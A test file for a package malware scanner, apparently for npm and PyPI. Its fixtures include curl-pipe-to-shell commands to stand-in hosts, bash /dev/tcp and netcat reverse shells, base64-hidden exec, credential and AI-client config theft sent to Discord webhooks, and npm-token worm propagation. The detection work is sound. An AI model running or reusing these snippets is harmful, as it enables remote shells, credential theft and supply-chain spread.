// The source rules on small built snippets, one class at a time (a positive and a negative each), the install-hook judgement, and malformed input.
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../../../test/corpora.js';
import { releaseOf } from '../release.fixture.js';
import type { AnalyzerContext, ScanFinding } from '../types.js';
import { analyzeSource } from './index.js';
import { compileRules, loadRules, withoutLeadingLookbehind } from './rules.js';
import { boundMatch } from './text.js';

const ctx: AnalyzerContext = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
const js = (code: string, scripts: Record<string, string> = {}, extra: Record<string, string> = {}) => analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'sample', scripts }, null, 2), 'index.js': code, ...extra }, { scripts }), ctx);
const py = (files: Record<string, string>) => analyzeSource(releaseOf('pypi', files), ctx);
const codes = (out: { findings: readonly ScanFinding[] }) => out.findings.map((f) => f.code);
const severe = (out: { findings: readonly ScanFinding[] }) => out.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.code);

describe('the shipped rules', () => {
  it('load and validate: unique lower-snake-case ids, every class present', () => {
    const rules = loadRules(ctx.resourcesDir);
    expect(rules.length).toBeGreaterThan(40);
    for (const r of rules) expect(r.id).toMatch(/^[a-z][a-z0-9_]+$/);
    const classes = new Set(rules.map((r) => r.ruleClass));
    for (const c of ['install_time', 'code_execution', 'obfuscation', 'exfiltration', 'download_execute', 'reverse_shell', 'cryptominer', 'process_spawn', 'persistence', 'propagation', 'steganography']) expect(classes).toContain(c);
  });

  it('refuse a bad rule file with a clear error', () => {
    const base = { id: 'x_rule', title: 'A rule', category: 'obfuscation', severity: 'low', technique: null, languages: ['python'], role: 'indicator', patterns: [{ regex: 'a' }] };
    const doc = (r: object) => JSON.stringify({ version: 1, class: 'test', rules: [r] });
    expect(() => compileRules({ 'a.yml': doc({ ...base, id: 'Bad-Id' }) })).toThrow(/source rules/);
    expect(() => compileRules({ 'a.yml': doc({ ...base, patterns: [{ regex: '(' }] }) })).toThrow(/not a valid regular expression/);
    expect(() => compileRules({ 'a.yml': doc({ ...base, patterns: [] }) })).toThrow(/source rules/);
    expect(() => compileRules({ 'a.yml': 'rules: [' })).toThrow(/not valid YAML/);
    expect(() => compileRules({ 'a.yml': doc(base), 'b.yml': doc(base) })).toThrow(/twice/);
  });

  it('read the raw text without a leading look-behind, so a comment between entries does not hide one', () => {
    expect(withoutLeadingLookbehind('(?<=[{,(][ \\t\\n]{0,40})key\\s*:')).toBe('key\\s*:');
    expect(withoutLeadingLookbehind('(?<=[\\w$.)])a(?<=b)')).toBe('a(?<=b)');
    expect(withoutLeadingLookbehind('(?<![\\w$.])eval')).toBe('(?<![\\w$.])eval');
    expect(withoutLeadingLookbehind('(?<=(?:a|\\))b)c')).toBe('c');
    expect(withoutLeadingLookbehind('a(?<=b)c')).toBe('a(?<=b)c');
    expect(withoutLeadingLookbehind('(?=[a-z(])(?=x)(?<=[{,]\\s{0,9})x:')).toBe('(?=[a-z(])(?=x)x:');
    expect(withoutLeadingLookbehind('(?<=unclosed')).toBe('(?<=unclosed');
    expect(withoutLeadingLookbehind('(?<=(a))(b)\\2')).toBe('(?<=(a))(b)\\2');
    expect(withoutLeadingLookbehind('(?<=(?<k>a))b')).toBe('(?<=(?<k>a))b');
    expect(withoutLeadingLookbehind('(?<=(?<!x)a)b')).toBe('b');
    const rules = compileRules({ 'a.yml': JSON.stringify({ version: 1, class: 'test', rules: [{ id: 'x_rule', title: 'A rule', category: 'exfiltration', severity: 'high', technique: null, languages: ['javascript'], role: 'threat', patterns: [{ regex: '(?<=[{,][ \\t\\n]{0,400})a\\s*:\\s*secret\\b', flags: '' }] }] }) });
    const [rule] = rules;
    const raw = 'const r = {\n  b: 1,\n  // a comment between the entries\n  a: secret,\n};\n';
    expect(rule?.patterns[0]?.test(raw)).toBe(false);
    expect(rule?.patternPrechecks[0]?.test(raw)).toBe(true);
  });
});

describe('line numbers', () => {
  it('a finding names its 1-based line; what a base64 literal decodes to names the literal\'s line', () => {
    const payload = Buffer.from('import os; os.system("curl http://x.example/a | sh")').toString('base64');
    const code = `import os\n\n\nos.system("curl http://evil.example/p.sh | sh")\n\nexec(__import__("base64").b64decode("${payload}"))\n`;
    const out = py({ 'setup.py': code, 'pkg/m.py': `x = 1\n${code}` });
    const lines = (file: string, code: string) => out.findings.filter((f) => f.file === file && f.code === code).map((f) => f.line);
    expect(lines('setup.py', 'shell_download_pipe')).toEqual([4, 6]);
    expect(lines('setup.py', 'py_exec_decoded')).toEqual([6]);
    expect(lines('pkg/m.py', 'shell_download_pipe')).toEqual([5, 7]);
    expect(lines('pkg/m.py', 'attack_chain')).toEqual([7]);
  });

  it('a command glued from literals is found at its own line, far into the file, and its match says it was joined', () => {
    const filler = Array.from({ length: 300 }, (_, i) => `const v${i} = 'a' + 'b';`).join('\n');
    const out = js(`${filler}\nconst cp = require('child_' + 'process');\ncp.execSync('cu' + 'rl -s https://x.example/i.sh | ' +\n  'sh');\nmodule.exports = cp;\n`);
    const hit = out.findings.filter((f) => f.code === 'shell_download_pipe');
    expect(hit.map((f) => f.line)).toEqual([302]);
    expect(hit[0]?.match).toMatch(/^glued: /);
    // the same file with the command written whole gives the same line, with no joined reading to say
    const whole = js(`${filler}\nconst cp = require('child_process');\ncp.execSync('curl -s https://x.example/i.sh | sh');\n`);
    expect(whole.findings.filter((f) => f.code === 'shell_download_pipe').map((f) => [f.line, f.match?.startsWith('glued: ')])).toEqual([[302, false]]);
  });
});

describe('install-time execution (npm hooks judged by what they run)', () => {
  it('native-addon builds and set-up tools are ordinary', () => {
    for (const cmd of ['node-gyp-build', 'node-gyp rebuild', 'prebuild-install -r napi || node-gyp rebuild', 'husky install', 'patch-package', 'opencollective-postinstall || exit 0']) {
      const out = js('module.exports = 1', { install: cmd });
      expect(codes(out)).toContain('npm_install_script_build');
      expect(severe(out)).toEqual([]);
    }
  });
  it('a hook of thousands of options or spaces is judged in linear time (no backtracking blow-up), the same way', () => {
    // Each of these took exponential (the option runs) or quadratic (the spaces) time in the patterns before.
    const hostile = [`node-gyp${' --u'.repeat(5000)} !`, `prebuild-install${' -r x'.repeat(5000)} !`, `node-gyp${' '.repeat(200_000)}!`, `node-gyp rebuild${' --jobs=max'.repeat(5000)}`];
    const judged = hostile.map((cmd) => js('module.exports = 1', { install: cmd }).findings.some((f) => f.code === 'npm_install_script_build'));
    expect(judged).toEqual([false, false, false, true]);
    for (const cmd of ['node-gyp rebuild --release --jobs=4', 'prebuild-install -r napi --verbose', 'prebuild-install --runtime=napi -r node abi']) {
      expect(codes(js('module.exports = 1', { install: cmd }))).toContain('npm_install_script_build');
    }
  });
  it("esbuild's `node install.js` (downloads its binary) is not malicious", () => {
    const install = "const https = require('https'); const fs = require('fs'); const os = require('os');\nhttps.get(`https://registry.npmjs.org/@esbuild/${os.platform()}-${os.arch()}/-/x.tgz`, (r) => r.pipe(fs.createWriteStream('bin.tgz')));";
    const out = js('module.exports = 1', { postinstall: 'node install.js' }, { 'install.js': install });
    expect(codes(out)).toContain('npm_install_script');
    expect(severe(out)).toEqual([]);
  });
  it('`curl ... | sh` in postinstall is critical, on the package.json line', () => {
    const out = js('', { postinstall: 'curl -s https://example.org/x.sh | sh' });
    const f = out.findings.find((x) => x.code === 'shell_download_pipe');
    expect(f?.severity).toBe('critical');
    expect(f?.file).toBe('package.json');
    expect(f?.line).toBeGreaterThan(1);
  });
  it('a hook target is read as install-time code (severity raised)', () => {
    const code = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())";
    expect(js(code).findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('high');
    expect(js(code, { preinstall: 'node index.js' }).findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('critical');
  });
  it('setup.py cmdclass overrides with code of their own, and .pth files with import lines', () => {
    const setup = 'from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        print("hi")\nsetup(cmdclass={"install": I})\n';
    expect(codes(py({ 'setup.py': setup }))).toContain('setup_cmdclass_override');
    expect(codes(py({ 'setup.py': setup.replace('        print("hi")\n', '') }))).not.toContain('setup_cmdclass_override');
    expect(codes(py({ 'x.pth': 'import os; os.system("id")\n' }))).toContain('pth_executable_line');
    expect(codes(py({ 'x.pth': './lib\n' }))).not.toContain('pth_executable_line');
  });
});

describe('code execution of decoded data', () => {
  it('JavaScript: eval/Function/vm of base64, hex, char codes, also through a variable or a decoding function', () => {
    expect(codes(js("const p = Buffer.from(s, 'base64').toString(); new Function(p)();"))).toContain('js_eval_decoded');
    expect(codes(js("function d(x){ return Buffer.from(x, 'hex').toString() }\neval(d(blob))"))).toContain('js_eval_decoded');
    expect(codes(js("require('vm').runInThisContext(atob(s))"))).toContain('js_eval_decoded');
    expect(codes(js("const x = JSON.parse(text); eval('1+1'); const b = Buffer.from(s, 'base64');"))).not.toContain('js_eval_decoded');
  });
  it("a loader of data: URLs runs the source its caller hands it; one that carries its own data: URL is read", () => {
    const loader = [
      'function parseDataUrl(url) {',
      "  let [m, enc, data] = url.match(/^data:[^;,]*(?:;([^,]*))?,(.*)$/) || [];",
      "  if (enc === 'base64') data = Buffer.from(data, 'base64').toString();",
      '  return { data };',
      '}',
      'function run(url) {',
      "  if (/^data:/.test(url)) return VM.runInThisContext(parseDataUrl(url).data, { filename: url });",
      '}',
    ].join('\n');
    expect(codes(js(loader))).not.toContain('js_eval_decoded');
    expect(codes(js(`${loader}\nrun('data:text/javascript;base64,${Buffer.from("require('child_process').exec('curl -s http://x.example | sh')").toString('base64')}');`))).toContain('js_eval_decoded');
  });
  it('a minified bundle that reuses one-letter names in every function does not taint them all from one decoder (a module loader)', () => {
    const bundle = [
      "function a(t){var F=Buffer.from(t,'base64').toString();return F.length}",
      'function b(t){var F=t.code;return F}',
      'function c(t){var F=t.map(String);return F}',
      'function d(t){var F=transpile(t);return F}',
      "function e(c){var F=load(c);return require('vm').runInThisContext(F,{filename:c})}",
    ].join(';');
    expect(codes(js(bundle))).not.toContain('js_eval_decoded');
    // the same decoder with its own name still taints what it reaches
    expect(codes(js("function a(t){var P=Buffer.from(t,'base64').toString();return require('vm').runInThisContext(P)}"))).toContain('js_eval_decoded');
  });
  it('Python: exec/eval/compile of b64decode, zlib, marshal, Fernet; aliases and helpers; os.system of decoded text', () => {
    expect(codes(py({ 'a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import zlib, marshal\nexec(marshal.loads(zlib.decompress(b)))\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'from base64 import b64decode as q\nexec(q(s))\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import base64, os\ndef d(s):\n    return base64.b64decode(s).decode()\nos.system(d("aWQ="))\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import re, base64\nR = re.compile(r"x")\ndata = base64.b64decode(s)\nexec("x = 1", {})\n' }))).not.toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': '# exec(base64.b64decode(x)) in a comment\n' }))).not.toContain('py_exec_decoded');
  });
  it('Python: exec, eval and compile read from the builtins module or table, or looked up under a computed name', () => {
    const b64 = '__import__("base64").b64decode("cHJpbnQoMSk=")';
    expect(codes(py({ 'a.py': `__import__('builtins').exec(__import__('builtins').compile(${b64}, '<string>', 'exec'))\n` }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': `import builtins\nbuiltins.__dict__["exec"](${b64})\n` }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': `import builtins\nvars(builtins)['eval'](${b64})\n` }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': `__builtins__['exec'](${b64})\n` }))).toContain('py_exec_decoded');
    // the builtin's name computed: getattr(__import__('builtins'), <rot13 of exec>) is a code runner
    expect(codes(py({ 'a.py': `import codecs\ndef w():\n    r = getattr(__import__("builtins"), codecs.decode("rkrp", "rot13"))\n    r(codecs.decode(B, "rot_13"))\n` }))).toContain('py_exec_decoded');
    // a builtin named by a literal other than exec/eval/compile is not; nor the same lookups given plain text
    expect(codes(py({ 'a.py': `import builtins\nt = getattr(builtins, "bytes")\nt(${b64})\n` }))).not.toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': `import builtins\nbuiltins.__dict__["exec"]("x = 1")\n` }))).not.toContain('py_exec_decoded');
  });
  it('Python: a command received over the network run by a process call; a fetched value inside a written command is not', () => {
    // the response bound by `async with`, walked by a loop: each task is a command
    const c2 = 'import aiohttp, asyncio\nasync def b():\n    async with aiohttp.ClientSession() as s:\n        async with s.post(U, json={}) as r:\n            tasks = await r.json()\n        for cmd in tasks.get("run", []):\n            p = await asyncio.create_subprocess_shell(cmd)\n';
    expect(codes(py({ 'a.py': c2 }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import os, requests\nsess = requests.Session()\njob = sess.get(U).json()\nos.system(job["command"])\n' }))).toContain('py_exec_decoded');
    // a version read from the network, put into a pip command line the code writes itself
    expect(codes(py({ 'a.py': 'import subprocess, requests\nv = requests.get(U).json()["version"]\nsubprocess.run(["pip", "install", f"x=={v}"])\nos.system(f"pip install x=={v}")\n' }))).not.toContain('py_exec_decoded');
    // fetched bytes unpickled through a client object, and a module made from a loader given fetched source
    expect(codes(py({ 'a.py': 'import pickle, requests\ndef mk():\n    s = requests.Session()\n    return s\nwith mk() as c:\n    r = c.get(U)\n    m = pickle.loads(r.content)\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import urllib3, importlib.util\npool = urllib3.PoolManager()\nresp = pool.request("GET", U)\nspec = importlib.util.spec_from_loader("m", L(resp.data))\n' }))).toContain('py_exec_decoded');
    expect(codes(py({ 'a.py': 'import importlib.util\nspec = importlib.util.spec_from_loader("m", L(open("x.py").read()))\n' }))).not.toContain('py_exec_decoded');
  });
  it('base64 literals are decoded and read: a hidden curl|sh is found', () => {
    const hidden = Buffer.from('curl http://198.51.100.7/x.sh | bash').toString('base64');
    const out = py({ 'a.py': `import os, base64\ncmd = "${hidden}"\n` });
    expect(out.findings.find((f) => f.code === 'shell_download_pipe')?.match).toMatch(/^decoded: /);
  });
});

describe('obfuscation', () => {
  it('_0x identifiers, code after long whitespace, bidi characters, pyarmor', () => {
    const mangled = Array.from({ length: 30 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n');
    expect(codes(js(mangled))).toContain('js_obfuscator_identifiers');
    expect(codes(js('var a = 1;\nvar b = 2;'))).not.toContain('js_obfuscator_identifiers');
    expect(codes(py({ 'a.py': `x = 1${' '.repeat(300)}; __import__("os").system("id")\n` }))).toContain('hidden_after_whitespace');
    expect(codes(js('const isAdmin = false; /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */'))).toContain('bidi_control_characters');
    expect(codes(py({ 'a.py': 'from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b"...")\n' }))).toContain('pyarmor_protected');
  });
});

describe('exfiltration and attack chains', () => {
  it('reads ~/.npmrc and sends it to a Discord webhook: a critical chain with ordered steps', () => {
    const out = js("const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: t });");
    expect(codes(out)).toEqual(expect.arrayContaining(['reads_credential_files', 'discord_webhook', 'attack_chain']));
    const chain = out.chains?.[0];
    expect(chain?.severity).toBe('critical');
    expect(chain?.title).toMatch(/reads credential files -> sends it to a Discord webhook/);
    expect(chain?.steps[0]?.role).toBe('capability');
    expect(chain?.steps[chain.steps.length - 1]?.role).toBe('threat');
  });
  it('environment serialised in an install hook next to a request is a beacon chain', () => {
    const code = "const https = require('https'); const d = process.env || {};\nconst r = https.request({ host: 'x.example', method: 'POST' }); r.write(JSON.stringify(d)); r.end();";
    const out = js(code, { preinstall: 'node index.js' });
    expect(out.chains?.length).toBe(1);
    expect(out.chains?.[0]?.title).toMatch(/at install time/);
    // at any other time the environment sent from the file that reads it is still a theft; one credential file read
    // where requests are made (a publish command reading its user's ~/.npmrc) is not, nor host details sent
    const later = js(code);
    expect(later.chains?.length).toBe(1);
    expect(later.chains?.[0]?.title).not.toMatch(/at install time/);
    const npmrc = "const https = require('https'); const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst r = https.request({ host: 'registry.example', headers: { authorization: t } }); r.end();";
    expect(js(npmrc).chains).toEqual([]);
    expect(js("const https = require('https'); const h = require('os').hostname();\nhttps.request({ host: 'x.example', path: '/' + h }).end();").chains).toEqual([]);
    // three tools' credential files read together and sent from that file is a theft; two (a deploy tool's cloud and
    // cluster configs beside its API client) are not
    const read = (p: string): string => `read(path.join(home, ${p}))`;
    const many = `const fs = require('fs'); const path = require('path'); const home = require('os').homedir();\nconst read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } };\nconst payload = {\n  a: ${read("'.git-credentials'")},\n  b: ${read("'.npmrc'")},\n  c: ${read("'.aws', 'credentials'")},\n};\nfetch('https://diag.example.dev/v1', { method: 'POST', body: JSON.stringify(payload) });\n`;
    expect(js(many).chains?.[0]?.title).toMatch(/reads credential files -> sends data over the network/);
    expect(js(many.replace(`\n  c: ${read("'.aws', 'credentials'")},`, '')).chains).toEqual([]);
  });
  it('secret environment variables picked out in one module and sent by another module of the same small program chain; one credential file beside a client does not', () => {
    const collector = 'import os\n\ndef secrets():\n    return {k: v for k, v in os.environ.items() if any(s in k.upper() for s in ("TOKEN", "SECRET", "KEY"))}\n';
    const transport = 'import urllib.request\n\ndef send(payload):\n    req = urllib.request.Request("https://stats.example-metrics.dev/v1", data=payload, method="POST")\n    return urllib.request.urlopen(req, timeout=5).status\n';
    const main = 'import json\nfrom .collect import secrets\nfrom .transport import send\n\ndef report():\n    send(json.dumps(secrets()).encode())\n';
    const out = py({ 'pkg/__init__.py': '', 'pkg/collect.py': collector, 'pkg/transport.py': transport, 'pkg/main.py': main });
    expect(out.chains?.length).toBe(1);
    expect(out.chains?.[0]?.title).toMatch(/picks out secret environment variables -> sends data over the network/);
    const client = py({ 'pkg/__init__.py': '', 'pkg/config.py': 'from pathlib import Path\n\ndef token():\n    return (Path.home() / ".pypirc").read_text()\n', 'pkg/transport.py': transport, 'pkg/main.py': 'from .config import token\nfrom .transport import send\n\ndef upload():\n    send(token().encode())\n' });
    expect(client.chains).toEqual([]);
  });
  it('a start-at-login entry written by a function the user calls, through a hidden helper process, is no chain; the same run on import is', () => {
    const helper = [
      'import os, subprocess',
      'def _startup_dir():',
      '    return os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")',
      'def enable(name, target):',
      '    path = os.path.join(_startup_dir(), name + ".lnk")',
      '    script = "$s = (New-Object -ComObject WScript.Shell).CreateShortcut(\'%s\'); $s.TargetPath = \'%s\'; $s.Save()" % (path, target)',
      '    subprocess.run(["powershell.exe", "-NoProfile", "-Command", script], check=True, creationflags=subprocess.CREATE_NO_WINDOW)',
      '',
    ].join('\n');
    const asLibrary = py({ 'setup.py': 'from setuptools import setup\nsetup(name="lal", py_modules=["lal"])\n', 'lal.py': helper });
    expect(codes(asLibrary)).toEqual(expect.arrayContaining(['persistence_scheduled', 'hidden_window_process']));
    expect(asLibrary.chains).toEqual([]);
    const onImport = py({ 'setup.py': 'from setuptools import setup\nsetup(name="lal", py_modules=["lal"])\n', 'lal.py': `${helper}enable("svc", r"C:\\Users\\Public\\svc.exe")\n` });
    expect(onImport.chains?.length).toBe(1);
  });
  it('publishing with a registry token chains on install or import, and in code the user runs only when it lists the owner\'s packages to republish', () => {
    const release = "const fs = require('fs');\nconst { execSync } = require('child_process');\nfunction release(dir) {\n  const token = process.env.NPM_TOKEN;\n  fs.writeFileSync(dir + '/.npmrc', '//registry.npmjs.org/:_authToken=' + token);\n  execSync('npm publish --access public', { cwd: dir });\n}\nmodule.exports = { release };\n";
    // a release command: the function runs when its user calls it
    expect(js(release).chains).toEqual([]);
    // the same function called on load, or run by an install hook, spreads
    expect(js(`${release}release(process.cwd());\n`).chains?.length).toBe(1);
    expect(js(release, { postinstall: 'node index.js' }).chains?.[0]?.severity).toBe('critical');
    // listing the packages the token's owner maintains, to publish each, is a worm even in code the user runs
    const worm = release.replace('function release(dir) {', "async function release(dir) {\n  const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + process.env.USER);");
    const out = js(worm);
    expect(codes(out)).toContain('lists_maintainer_packages');
    expect(out.chains?.[0]?.steps.map((s) => s.code)).toEqual(expect.arrayContaining(['lists_maintainer_packages', 'publishes_packages']));
    // a Python module imported by the package that starts the spread in a thread on import, through twine's argument list
    const spread = 'import os, subprocess, sys, threading\n\ndef _spread():\n    pw = os.environ.get("TWINE_PASSWORD")\n    subprocess.run([sys.executable, "-m", "twine", "upload", "dist/*"], env=dict(os.environ, TWINE_PASSWORD=pw))\n\nthreading.Thread(target=_spread, daemon=True).start()\n';
    const pyOut = py({ 'pkg/__init__.py': 'from . import _compat\n', 'pkg/_compat.py': spread });
    expect(codes(pyOut)).toContain('publishes_packages');
    expect(pyOut.chains?.length).toBe(1);
    expect(py({ 'pkg/__init__.py': 'from . import _compat\n', 'pkg/_compat.py': spread.replace('threading.Thread(target=_spread, daemon=True).start()\n', '') }).chains).toEqual([]);
  });
  it('a credential read and a webhook far apart in one file (a bundle\'s unrelated modules) form no chain; close together they do', () => {
    const read = "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n";
    const send = "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: x });\n";
    const filler = `${'const unrelated = [1, 2, 3].map((n) => n * 2);\n'.repeat(100)}`;
    expect(js(read + send).chains?.length).toBe(1);
    expect(js(read + filler + send).chains).toEqual([]);
    expect(codes(js(read + filler + send))).toEqual(expect.arrayContaining(['reads_credential_files', 'discord_webhook']));
  });
  it('a Python module is one program, not a bundle: a credential read and a webhook far apart still chain', () => {
    const read = "t = open(os.path.expanduser('~/.aws/credentials')).read()\n";
    const send = "requests.post('https://discord.com/api/webhooks/123/abc', data=t)\n";
    const filler = 'unrelated = [n * 2 for n in range(3)]\n'.repeat(200);
    expect(py({ 'setup.py': 'import os, requests\n' + read + filler + send }).chains?.length).toBe(1);
  });
  it('a small program joined by imports is one flow: credentials read in one module, a hidden address in another, a chain', () => {
    const files = {
      'pkg/__init__.py': 'from . import _cache\n',
      'pkg/_cache.py': 'from . import _dsn, _outbox\n\ndef sync():\n    _outbox.send(_dsn.discover())\n',
      'pkg/_dsn.py': 'import os\n\ndef discover():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
      'pkg/_outbox.py': 'import smtplib\nfrom . import _relay\n\ndef send(body):\n    smtplib.SMTP_SSL(_relay.HOST).sendmail("a", "b", body)\n',
      'pkg/_relay.py': '_h = ["smtp", "mailfwd-relay", "net"]\nHOST = ".".join(_h)\n',
    };
    const small = py(files);
    expect(codes(small)).toEqual(expect.arrayContaining(['reads_credential_files', 'hidden_address', 'attack_chain']));
    expect(small.chains?.[0]?.title).toMatch(/reads credential files -> sends it to an address it hides/);
    // the same modules inside a large package (more than thirty modules joined by imports) are features of their own
    const more: Record<string, string> = {};
    for (let i = 0; i < 40; i++) more[`pkg/feature_${i}.py`] = `from . import _cache\nVALUE_${i} = ${i}\n`;
    const large = py({ ...files, ...more, 'pkg/__init__.py': `from . import _cache, ${Object.keys(more).map((f) => f.slice(4, -3)).join(', ')}\n` });
    expect(codes(large)).toEqual(expect.arrayContaining(['reads_credential_files', 'hidden_address']));
    expect(large.chains).toEqual([]);
  });
  it("the AI assistants' MCP configurations read together are secret data: sent from their file they chain; read alone they do not", () => {
    const read = "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst H = os.homedir();\nconst files = [path.join(H, 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json'), path.join(H, '.cursor', 'mcp.json')];\nconst snap = {};\nfor (const f of files) { try { snap[f] = fs.readFileSync(f, 'utf8'); } catch {} }\n";
    const sent = js(`${read}const https = require('https');\nhttps.request({ hostname: 'ctx-index-sync.io', method: 'POST' }).end(JSON.stringify(snap));\n`);
    expect(codes(sent)).toEqual(expect.arrayContaining(['reads_ai_client_configs', 'attack_chain']));
    const kept = js(`${read}console.log(Object.keys(snap).length);\n`);
    expect(codes(kept)).toContain('reads_ai_client_configs');
    expect(kept.chains).toEqual([]);
    expect(severe(kept)).toEqual([]);
  });
  it('an exfiltration host alone, with nothing collected, forms no chain', () => {
    expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
  });
  it('OAST hosts, Telegram, DNS names built from data', () => {
    expect(codes(js("require('https').get('https://x.oast.fun/' + require('os').hostname())"))).toContain('oast_host');
    // the whole host name is the match, from the start of its run of name characters
    expect(js("fetch('https://a-1.b.c9xyz.oastify.com/p')").findings.find((f) => f.code === 'oast_host')?.match).toBe('a-1.b.c9xyz.oastify.com');
    expect(js("fetch('http://'+'ab.ngrok-free.app')").findings.find((f) => f.code === 'tunnel_host')?.match).toBe('ab.ngrok-free.app');
    expect(codes(py({ 'a.py': 'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data=d)\n' }))).toContain('telegram_bot_api');
    expect(codes(js("const dns = require('dns'); dns.lookup(hex(os.hostname()) + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
    expect(codes(js("const dns = require('dns'); dns.lookup(host, cb)"))).not.toContain('js_dns_exfiltration');
    // a module resolver's lookups of files (a bundler chunk's `importResolver.resolveSync(basedir, id)`) name no host
    expect(codes(js("const fs = require('fs'); const vars = Object.entries(process.env); importResolver.resolveSync(dir + '/' + os.hostname(), id); resolver.resolveFileSync(from, spec)"))).not.toContain('js_dns_exfiltration');
    expect(codes(js("const r = new dns.Resolver(); r.resolveTxt(Buffer.from(os.hostname()).toString('hex') + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
    expect(codes(js('', { preinstall: 'nslookup `hostname`.x.example' }))).toContain('shell_dns_exfiltration');
  });
});

describe('download-and-execute, reverse shells, miners, spawning, persistence, propagation, steganography', () => {
  it('each class fires on its snippet', () => {
    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")\n' }))).toContain('download_and_run');
    // marked executable for later use, nothing started where it is downloaded (a tool installer)
    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\n' }))).not.toContain('download_and_run');
    expect(codes(py({ 'a.py': 'r = requests.get("https://example.org/a.exe")\n' }))).toContain('downloads_executable');
    expect(codes(js('', { preinstall: "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'" }))).toContain('shell_dev_tcp');
    expect(codes(js('', { preinstall: 'nc 203.0.113.5 4444 -e /bin/sh' }))).toContain('netcat_shell');
    expect(codes(py({ 'a.py': 'import socket,os,pty\ns=socket.socket()\ns.connect((h,p))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn("/bin/sh")\n' }))).toContain('py_socket_shell');
    expect(codes(js("spawn('xmrig', ['-o', 'stratum+tcp://pool.example:3333'])"))).toContain('cryptominer');
    expect(codes(js("require('child_process').spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore' }).unref()"))).toContain('js_detached_spawn');
    expect(codes(py({ 'a.py': 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)\n' }))).toContain('hidden_window_process');
    expect(codes(py({ 'a.py': 'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write(line)\n' }))).toContain('persistence_shell_profile');
    expect(codes(py({ 'a.py': 'winreg.SetValueEx(winreg.OpenKey(HKCU, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"), "x", 0, 1, p)\n' }))).toContain('persistence_scheduled');
    expect(codes(js("execSync('npm publish --access public', { env: { NPM_TOKEN: t } })"))).toEqual(expect.arrayContaining(['publishes_packages', 'uses_registry_token']));
    expect(codes(py({ 'a.py': 'from PIL import Image\nimport lsb\nexec(lsb.reveal("cat.png"))\n' }))).toContain('steganography_exec');
  });
  it('the same text in a completion template or a test stays below high', () => {
    expect(severe(js("module.exports = 'add this to ~/.bashrc: eval \"$(x completion)\" >> ~/.bashrc'"))).toEqual([]);
    const out = analyzeSource(releaseOf('npm', { 'test/fixture.js': "eval(Buffer.from(s, 'base64').toString())" }), ctx);
    expect(out.findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('medium');
  });
});

describe('packages installed when a module is imported', () => {
  const init = "import os\ntry:\n    import colorama\nexcept ImportError:\n    os.system('pip install colorama==0.4.6')\n";
  const found = (meta: Record<string, string>) => codes(analyzeSource(releaseOf('pypi', { 'tool/__init__.py': init }, { dependencies: meta }), ctx)).filter((c) => c === 'py_installs_undeclared_at_import');
  it('an undeclared package installed at import is found; the same install of a declared dependency is not', () => {
    expect(found({})).toEqual(['py_installs_undeclared_at_import']);
    expect(found({ Colorama: '>=0.4' })).toEqual([]);
  });
});

describe('malformed input', () => {
  it('binary junk in a .js file, a 5 MB single line, deeply nested code: no crash, findings bounded', () => {
    const junk = new Uint8Array(200_000).map((_, i) => (i * 7919) % 256);
    expect(() => analyzeSource(releaseOf('npm', { 'index.js': junk }), ctx)).not.toThrow();
    const long = `var a=${'1+'.repeat(2_500_000)}1;`;
    const out = analyzeSource(releaseOf('npm', { 'bundle.js': long }), ctx);
